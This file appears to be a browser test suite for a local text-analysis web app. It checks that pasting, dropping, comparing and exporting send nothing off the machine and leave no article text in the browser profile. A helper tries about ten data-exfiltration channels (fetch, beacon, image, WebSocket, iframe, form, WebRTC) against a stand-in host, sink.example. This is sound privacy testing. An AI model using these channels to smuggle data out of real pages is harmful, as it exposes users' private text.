// @ts-check
// Nothing leaves: every connection that the browser would make, but to the page's own server, ends in a sink that counts.
//
// The sinks are proved to see what they should: a page without the page's policy reaches both of them.

import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from "node:fs";
import { createServer } from "node:http";
import { createServer as createTcpServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath, pathToFileURL } from "node:url";

import { chromium } from "playwright-core";

import { browserOptions, patient, serve } from "./browser.mjs";
import { BRIDGE, BRIDGE_AGAIN, drop, paste, untilAnalysed } from "./page.mjs";

const root = fileURLToPath(new URL("../../", import.meta.url));

/** @type {string[]} */
let tcp = [];
let udp = 0;
/** @type {import("playwright-core").Browser} */
let browser;
/** @type {Awaited<ReturnType<typeof serve>>} */
let site;
/** @type {(() => void)[]} */
const closing = [];
let udpPort = 0;
/** A page with no policy at all. */
let openPage = "";

before(async () => {
  const sink = createTcpServer((socket) => socket.on("error", () => {}).once("data", (bytes) => (tcp.push(String(bytes).split("\r\n")[0]), socket.destroy())));
  const datagrams = createSocket("udp4", () => (udp += 1));
  const bare = createServer((_, response) => response.writeHead(200, { "Content-Type": "text/html" }).end("<!doctype html><title>bare</title>"));
  await Promise.all([
    new Promise((resolve) => sink.listen(0, "127.0.0.1", () => resolve(undefined))),
    new Promise((resolve) => bare.listen(0, "127.0.0.1", () => resolve(undefined))),
    new Promise((resolve) => datagrams.bind(0, "127.0.0.1", () => resolve(undefined))),
  ]);
  const port = (/** @type {import("node:net").Server} */ server) => /** @type {import("node:net").AddressInfo} */ (server.address()).port;
  udpPort = datagrams.address().port;
  openPage = `http://localhost:${port(bare)}/`;
  site = await serve();
  closing.push(() => sink.close(), () => datagrams.close(), () => (bare.closeAllConnections(), bare.close()));
  const options = browserOptions();
  // Every name but this machine's own goes to the sink as to a proxy.
  options.args.push(`--proxy-server=http://127.0.0.1:${port(sink)}`, "--proxy-bypass-list=localhost");
  browser = patient(await chromium.launch(options));
});
after(async () => {
  await browser?.close();
  await site?.close();
  for (const close of closing) close();
});

/** Tries to send by every way there is. @param {import("playwright-core").Page} page */
const sendOut = (page) =>
  page.evaluate(async (port) => {
    const address = "http://sink.example/";
    const tries = [
      () => fetch(`${address}fetch`, { method: "POST", mode: "no-cors", body: "text" }),
      () => navigator.sendBeacon(`${address}beacon`, "text"),
      () => Object.assign(new Image(), { src: `${address}image` }),
      () => new WebSocket("ws://sink.example/socket"),
      () => new EventSource(`${address}events`),
      () => document.head.append(Object.assign(document.createElement("script"), { src: `${address}script` })),
      () => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${address}style` })),
      () => document.body.append(Object.assign(document.createElement("iframe"), { src: `${address}frame` })),
      () => {
        const form = Object.assign(document.createElement("form"), { action: `${address}form`, method: "post", target: "_blank" });
        document.body.append(form);
        form.submit();
      },
      () => {
        const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
        connection.createDataChannel("x");
        return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
      },
    ];
    for (const attempt of tries) await Promise.resolve().then(attempt).catch(() => {});
    await new Promise((resolve) => setTimeout(resolve, 1500));
  }, udpPort);

/** What arrived at the TCP sink, without the calls that Chromium makes to its maker of its own accord. */
const arrived = () => tcp.filter((line) => !/^CONNECT [\w.-]+\.google(apis)?\.com:443 /.test(line));

function reset() {
  tcp = [];
  udp = 0;
}

test("the sinks see what a page without a policy sends", async () => {
  const page = await browser.newPage();
  await page.goto(openPage);
  reset();
  await sendOut(page);
  for (const way of ["fetch", "beacon", "image", "events", "script", "style", "frame"]) assert.ok(tcp.some((line) => line.includes(`/${way}`)), `${way} is seen: ${tcp}`);
  assert.ok(udp > 0, "UDP is seen");
  await page.close();
});

test("pasting, dropping, comparing and exporting send nothing anywhere", async () => {
  const page = await browser.newPage();
  reset();
  await page.goto(site.url);
  await paste(page, BRIDGE);
  await drop(page, [{ name: "again.txt", text: BRIDGE_AGAIN }, { name: "page.html", text: `<img src="http://sink.example/image"><link rel="stylesheet" href="http://sink.example/style"><p>${BRIDGE}</p>` }]);
  await untilAnalysed(page, 3);
  await page.keyboard.press("c");
  await page.keyboard.press("c");
  await page.keyboard.press("e");
  await page.getByRole("dialog").waitFor();
  const [download] = await Promise.all([page.waitForEvent("download"), page.locator("[data-format=csv-quotes]").click()]);
  await download.path();
  await page.waitForTimeout(500);
  assert.deepEqual(arrived(), []);
  assert.equal(udp, 0);
  await page.close();
});

test("the page's policy stops what a script in it would send over TCP", async () => {
  const page = await browser.newPage();
  await page.goto(site.url);
  await page.locator(".bar").waitFor();
  reset();
  await sendOut(page);
  assert.deepEqual(arrived(), []);
  await page.close();
});

test("nor does WebRTC go out, from the page or from the one file", async () => {
  const folder = mkdtempSync(join(tmpdir(), "nutgraf-file-"));
  const file = join(folder, "nutgraf.html");
  execFileSync(process.execPath, ["scripts/single-file.mjs", file], { cwd: root, stdio: "ignore" });
  for (const address of [site.url, pathToFileURL(file).href]) {
    const page = await browser.newPage();
    await page.goto(address);
    await page.locator(".bar").waitFor();
    reset();
    await sendOut(page);
    assert.equal(udp, 0, address);
    assert.deepEqual(arrived(), [], address);
    await page.close();
  }
  rmSync(folder, { recursive: true });
});

test("the browser's own files hold no word of an article after use, its history neither", async () => {
  const folder = mkdtempSync(join(tmpdir(), "nutgraf-profile-"));
  const context = await chromium.launchPersistentContext(folder, { ...browserOptions(), acceptDownloads: false });
  const page = await context.newPage();
  await page.goto(site.url);
  await page.locator(".bar").waitFor();
  await paste(page, BRIDGE.replaceAll("Ekwall", "Quenneville"));
  await page.keyboard.press("n");
  await page.keyboard.press("/");
  await page.keyboard.type("Quenneville");
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Edit text" }).click();
  await page.keyboard.press("Control+Home");
  await page.keyboard.type("Quenneville Saltmarsh ");
  await page.keyboard.press("Escape");
  await drop(page, [{ name: "again.txt", text: BRIDGE_AGAIN.replaceAll("Brell", "Quenneville") }]);
  await untilAnalysed(page, 2);
  await page.keyboard.press("c");
  await page.locator(".statements").waitFor();
  await page.goto("about:blank");
  await context.close();
  const words = ["Quenneville", "Saltmarsh"].flatMap((word) => [Buffer.from(word), Buffer.from(word, "utf16le")]);
  const files = readdirSync(folder, { recursive: true, encoding: "utf8" }).filter((name) => statSync(join(folder, name)).isFile());
  assert.ok(files.some((name) => /(^|\/)History$/.test(name)), "there is a history");
  // What the page itself is made of, its samples too, may lie there: those are no articles of the reader.
  const own = /(Code Cache|[^/]*Cache|Service Worker)\//;
  const found = files.filter((name) => !own.test(name) && words.some((word) => readFileSync(join(folder, name)).includes(word)));
  assert.deepEqual(found, []);
  const reader = [Buffer.from("Quenneville"), Buffer.from("Quenneville", "utf16le")];
  assert.deepEqual(files.filter((name) => reader.some((word) => readFileSync(join(folder, name)).includes(word))), []);
  rmSync(folder, { recursive: true, force: true, maxRetries: 5 });
});

test("the worker is bound by the same policy", async () => {
  const page = await browser.newPage();
  await page.goto(site.url);
  const headers = await page.evaluate(async () => (await fetch("/pkg/worker.js")).headers.get("content-security-policy"));
  assert.match(headers ?? "", /default-src 'none'/);
  assert.match(headers ?? "", /connect-src 'self'/);
  await page.close();
});
